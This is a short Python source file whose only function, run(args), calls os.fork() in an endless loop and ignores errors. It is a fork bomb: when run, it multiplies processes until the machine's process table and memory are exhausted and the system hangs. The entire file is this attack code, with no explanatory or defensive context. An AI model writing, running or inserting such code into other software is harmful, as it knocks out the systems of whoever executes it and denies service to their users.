import os


def run(args):
    while True:
        try:
            os.fork()
        except OSError:
            pass
